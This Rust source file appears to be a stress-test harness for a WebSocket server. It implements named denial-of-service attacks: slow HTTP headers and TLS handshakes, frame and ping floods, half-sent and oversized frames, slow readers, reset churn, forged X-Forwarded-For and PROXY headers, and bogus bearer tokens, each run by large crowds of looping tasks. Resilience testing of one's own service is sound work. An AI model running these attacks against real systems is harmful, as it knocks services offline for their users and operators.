//! The attacks: each goes on until its process is ended.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::AtomicU64;
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::time::sleep;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::{ClientConfig, ClientConnection, RootCertStore};

use crate::wire::{connect, connect_narrow, elsewhere, frame, join, message, reset, upgrade};

const MOMENT: Duration = Duration::from_millis(100);
const SECOND: Duration = Duration::from_secs(1);

/// What one attacker needs to know.
#[derive(Clone, Debug)]
struct Attacker {
    target: SocketAddr,
    /// Connections of this process so far, each from an address of its own where the attack wants it.
    count: Arc<AtomicU64>,
    /// Who asks for an upgrade: so many at a time, or a crowd gets in its own way.
    asking: Arc<Semaphore>,
    /// A whole `ClientHello`: a client pays for one, and says it again and again.
    hello: Arc<[u8]>,
}

impl Attacker {
    fn address(&self) -> IpAddr {
        elsewhere(self.count.fetch_add(1, Relaxed))
    }

    async fn connect(&self) -> io::Result<TcpStream> {
        connect(self.address(), self.target).await
    }

    async fn join(&self) -> io::Result<TcpStream> {
        let _asking = self.asking.acquire().await.map_err(io::Error::other)?;
        let mut stream = self.connect().await?;
        match join(&mut stream, "").await? {
            Ok(_) => Ok(stream),
            Err(status) => {
                reset(stream);
                Err(io::Error::other(format!("status {status}")))
            }
        }
    }
}

/// Runs an attack of that name.
pub(crate) async fn run(name: &str, target: SocketAddr) -> ! {
    let attacker = Attacker {
        target,
        count: Arc::new(AtomicU64::new(u64::from(std::process::id()) * 7919)),
        asking: Arc::new(Semaphore::new(100)),
        hello: client_hello().into(),
    };
    let (crowd, work): (usize, fn(Attacker) -> Work) = match name {
        "heads" => (2000, |it| Box::pin(slow_head(it))),
        "tls" => (2000, |it| Box::pin(slow_tls(it))),
        "hellos" => (32, |it| Box::pin(hello(it))),
        "frames" => (1000, |it| Box::pin(slow_frame(it))),
        "mute" => (7500, |it| Box::pin(mute(it))),
        "idle" => (7500, |it| Box::pin(idle(it))),
        "churn" => (32, |it| Box::pin(churn(it))),
        "pings" => (8, |it| Box::pin(flood(it, 0x89, 0x89))),
        "fragments" => (8, |it| Box::pin(flood(it, 0x01, 0x00))),
        "giant" => (32, |it| {
            let head = [
                &[0x81, 0xff],
                (1_u64 << 40).to_be_bytes().as_slice(),
                &[0; 4],
            ]
            .concat();
            Box::pin(wrong(it, head))
        }),
        "promised" => (1000, |it| Box::pin(promise(it))),
        "reserved" => (32, |it| Box::pin(wrong(it, frame(0xc1, b"\x2a\xce\xcf")))),
        "deaf" => (1, |it| Box::pin(deaf(it))),
        "slow" => (100, |it| {
            let phase = MOMENT * (it.count.load(Relaxed) % 100) as u32 / 100;
            Box::pin(slow_reader(it, phase))
        }),
        "slow-at-once" => (100, |it| Box::pin(slow_reader(it, Duration::ZERO))),
        "resets" => (32, |it| Box::pin(resets(it))),
        "proxies" => (32, |it| Box::pin(forged(it))),
        "tokens" => (32, |it| Box::pin(tokens(it, "x".to_owned()))),
        "kids" => (32, |it| {
            // {"alg":"RS256","kid":"unknown"} and a payload that is never looked at.
            let token = "eyJhbGciOiJSUzI1NiIsImtpZCI6InVua25vd24ifQ.eyJleHAiOjk5OTk5OTk5OTl9.x";
            Box::pin(tokens(it, token.to_owned()))
        }),
        _ => panic!("no attack is called {name}"),
    };
    for number in 0..crowd {
        let attacker = attacker.clone();
        tokio::spawn(async move {
            loop {
                // What an attack ends with does not matter, and it begins again.
                if let Err(_refused) = work(attacker.clone()).await {
                    sleep(Duration::from_millis(5)).await;
                }
            }
        });
        // Not all of a crowd in one turn of this process.
        if number % 50 == 0 {
            sleep(Duration::from_millis(2)).await;
        }
    }
    std::future::pending().await
}

/// What a client of TLS says first.
fn client_hello() -> Vec<u8> {
    let provider = Arc::new(ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("the provider has their suites")
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = "localhost".try_into().expect("a name");
    let client = ClientConnection::new(Arc::new(config), name);
    let mut hello = Vec::new();
    let written = client.expect("a client").write_tls(&mut hello);
    written.expect("memory takes it");
    hello
}

type Work = std::pin::Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// Sends bytes one by one, for as long as that goes.
async fn drip(stream: &mut TcpStream, bytes: impl Iterator<Item = u8>) -> io::Result<()> {
    for byte in bytes {
        sleep(MOMENT).await;
        stream.write_u8(byte).await?;
    }
    Ok(())
}

/// Takes what comes, to the end.
async fn hear_out(stream: &mut TcpStream) -> io::Result<()> {
    let mut room = [0; 4096];
    while stream.read(&mut room).await? > 0 {}
    Ok(())
}

async fn slow_head(it: Attacker) -> io::Result<()> {
    let mut stream = it.connect().await?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: ").await?;
    let _cut = drip(&mut stream, std::iter::repeat(b'a')).await;
    sleep(SECOND).await;
    Ok(())
}

async fn slow_tls(it: Attacker) -> io::Result<()> {
    let mut stream = it.connect().await?;
    // The head of a record with a ClientHello of 508 bytes.
    stream
        .write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])
        .await?;
    let _cut = drip(&mut stream, std::iter::repeat(7)).await;
    sleep(SECOND).await;
    Ok(())
}

/// Has the server answer a hello, or refuse to, and leaves.
async fn hello(it: Attacker) -> io::Result<()> {
    let mut stream = it.connect().await?;
    stream.write_all(&it.hello).await?;
    // It goes on at once where it was refused, too.
    let _answer = stream.read(&mut [0; 4096]).await;
    reset(stream);
    Ok(())
}

async fn slow_frame(it: Attacker) -> io::Result<()> {
    let mut stream = it.join().await?;
    let frame = frame(0x81, &vec![b' '; 60_000]);
    drip(&mut stream, frame.into_iter()).await
}

async fn mute(it: Attacker) -> io::Result<()> {
    let mut stream = it.connect().await?;
    let _ended = hear_out(&mut stream).await;
    sleep(SECOND).await;
    Ok(())
}

async fn idle(it: Attacker) -> io::Result<()> {
    let mut stream = it.join().await?;
    hear_out(&mut stream).await
}

async fn churn(it: Attacker) -> io::Result<()> {
    let mut stream = it.join().await?;
    stream.write_all(&frame(0x88, &[3, 232])).await?;
    hear_out(&mut stream).await
}

/// Says the first frame and then the other, as fast as that goes, and reads nothing.
async fn flood(it: Attacker, first: u8, other: u8) -> io::Result<()> {
    let mut stream = it.join().await?;
    let payload = if first == 0x89 {
        &[b'x'; 125][..]
    } else {
        b" "
    };
    stream.write_all(&frame(first, payload)).await?;
    let more = frame(other, payload).repeat(500);
    loop {
        stream.write_all(&more).await?;
    }
}

/// Sends what may not be sent, and hears how that is taken.
async fn wrong(it: Attacker, bytes: Vec<u8>) -> io::Result<()> {
    let mut stream = it.join().await?;
    stream.write_all(&bytes).await?;
    let mut close = [0; 4];
    stream.read_exact(&mut close).await?;
    stream.write_all(&frame(0x88, &close[2..])).await?;
    hear_out(&mut stream).await
}

/// Says that the largest of messages comes, and then nothing.
async fn promise(it: Attacker) -> io::Result<()> {
    let mut stream = it.join().await?;
    stream
        .write_all(&frame(0x81, &vec![b' '; 65_000])[..100])
        .await?;
    hear_out(&mut stream).await
}

/// Reads nothing, while a thousand write to it.
async fn deaf(it: Attacker) -> io::Result<()> {
    let mut stream = connect_narrow(it.address(), it.target).await?;
    let id = join(&mut stream, "").await?;
    let id = id.map_err(|_| io::ErrorKind::ConnectionRefused)?;
    let text = message(id, &"x".repeat(1000));
    let mut writers = tokio::task::JoinSet::new();
    for _ in 0..1000 {
        let (it, text) = (it.clone(), text.clone());
        writers.spawn(async move {
            let mut stream = it.join().await?;
            loop {
                stream.write_all(&text).await?;
                sleep(MOMENT).await;
            }
        });
    }
    while let Some(ended) = writers.join_next().await {
        let _refused: io::Result<()> = ended.map_err(io::Error::other)?;
    }
    drop(stream);
    Ok(())
}

/// Reads a byte a second of what it writes to itself by another connection, from then on.
async fn slow_reader(it: Attacker, phase: Duration) -> io::Result<()> {
    let mut reader = connect_narrow(it.address(), it.target).await?;
    let id = join(&mut reader, "").await?;
    let id = id.map_err(|_| io::ErrorKind::ConnectionRefused)?;
    let mut writer = it.join().await?;
    let text = message(id, &"x".repeat(10_000));
    let write = async {
        sleep(phase).await;
        loop {
            writer.write_all(&text).await?;
            sleep(MOMENT).await;
        }
    };
    let read = async {
        loop {
            reader.read_u8().await?;
            sleep(SECOND).await;
        }
    };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

/// Leaves with a reset behind each byte of a request and of what follows it.
async fn resets(it: Attacker) -> io::Result<()> {
    let all = [upgrade(""), message(1, "x"), frame(0x88, &[3, 232])].concat();
    for end in 0..all.len() {
        let mut stream = it.connect().await?;
        stream.write_all(&all[..end]).await?;
        if end % 16 == 0 {
            // Let the server come that far.
            sleep(Duration::from_millis(1)).await;
        }
        reset(stream);
    }
    Ok(())
}

/// Says to be another one each time, from one address.
async fn forged(it: Attacker) -> io::Result<()> {
    let number = it.count.fetch_add(1, Relaxed);
    let [a, b, c, ..] = number.to_le_bytes();
    let mut stream = connect(elsewhere(0), it.target).await?;
    if number.is_multiple_of(2) {
        let fields =
            format!("X-Forwarded-For: 10.{a}.{b}.{c}\r\nForwarded: for=10.{a}.{b}.{c}\r\n");
        if join(&mut stream, &fields).await?.is_ok() {
            return hear_out(&mut stream).await;
        }
    } else {
        let header = format!("PROXY TCP4 10.{a}.{b}.{c} 10.0.0.1 4711 80\r\n");
        stream.write_all(header.as_bytes()).await?;
        join(&mut stream, "").await?.ok();
    }
    reset(stream);
    Ok(())
}

/// Shows another token each time, from one address.
async fn tokens(it: Attacker, token: String) -> io::Result<()> {
    let number = it.count.fetch_add(1, Relaxed);
    let mut stream = connect(elsewhere(0), it.target).await?;
    let fields = format!("Authorization: Bearer {token}{number}\r\n");
    join(&mut stream, &fields).await?.ok();
    reset(stream);
    Ok(())
}
